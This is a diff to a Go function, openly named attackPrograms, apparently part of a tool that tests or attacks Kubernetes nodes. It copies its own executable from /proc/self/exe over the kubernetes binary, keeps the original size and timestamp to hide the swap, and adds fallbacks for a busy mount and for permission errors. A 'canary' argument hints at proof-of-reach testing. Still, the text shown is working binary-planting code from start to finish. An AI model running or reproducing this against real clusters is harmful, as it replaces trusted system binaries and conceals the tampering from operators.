@@ -201,18 +201,26 @@ func attackDescriptors() error {
 // attackPrograms puts this program in place of Kubernetes, with the same size and time, in a folder of the same name.
 func attackPrograms(disk, canary string) error {
 	dir := filepath.Join(disk, programs)
-	if err := os.Rename(dir, dir+".old"); err != nil {
-		return err
-	}
-	if err := os.CopyFS(dir, os.DirFS(dir+".old")); err != nil {
-		return err
-	}
-	self, err := os.ReadFile("/proc/self/exe")
+	path := filepath.Join(dir, "kubernetes")
+	info, err := os.Stat(path)
 	if err != nil {
 		return err
 	}
-	path := filepath.Join(dir, "kubernetes")
-	info, err := os.Stat(filepath.Join(dir+".old", "kubernetes"))
+	err = os.Rename(dir, dir+".old")
+	switch {
+	case err == nil:
+		err = os.CopyFS(dir, os.DirFS(dir+".old"))
+	case errors.Is(err, syscall.EBUSY): // a mount, on the second node: the file alone
+		err = os.Rename(path, path+".old")
+	}
+	if errors.Is(err, os.ErrPermission) {
+		fmt.Println("out of reach:", err)
+		return nil
+	}
+	if err != nil {
+		return err
+	}
+	self, err := os.ReadFile("/proc/self/exe")
 	if err != nil {
 		return err
 	}
